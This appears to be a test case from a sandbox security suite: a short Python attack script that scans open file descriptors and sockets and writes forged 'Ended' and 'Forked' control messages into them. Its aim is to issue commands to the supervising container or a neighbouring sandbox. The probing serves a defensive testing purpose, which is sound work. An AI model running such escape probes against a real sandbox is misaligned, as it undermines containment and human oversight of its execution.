# /// attack
# tries = "find a descriptor of the container's or of another box's, and give orders by it"
# covers = ["stay.container", "read.proc_fd"]
# silent = true
# again = true
# ///
import gc, os, socket, stat

ORDER = b'["Ended", {"number": 1, "status": 0}]\n["Forked", {"number": 2}]\n'

def probe():
    for number in range(4096):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if number > 3:
            print("open", number, oct(mode))
            try:
                os.write(number, ORDER)
            except OSError:
                pass
    if not stat.S_ISCHR(os.fstat(0).st_mode):
        print("not nothing", os.readlink("/proc/self/fd/0"))
    for each in gc.get_objects():
        if isinstance(each, socket.socket) and each.fileno() not in (-1, 3):
            try:
                print("socket", each, each.getpeername())
            except OSError:
                pass
    for number in range(5, 64):
        try:
            with open(f"/proc/self/fd/{number}", "wb", buffering=0) as file:
                file.write(ORDER)
                print("wrote", number)
        except OSError:
            pass
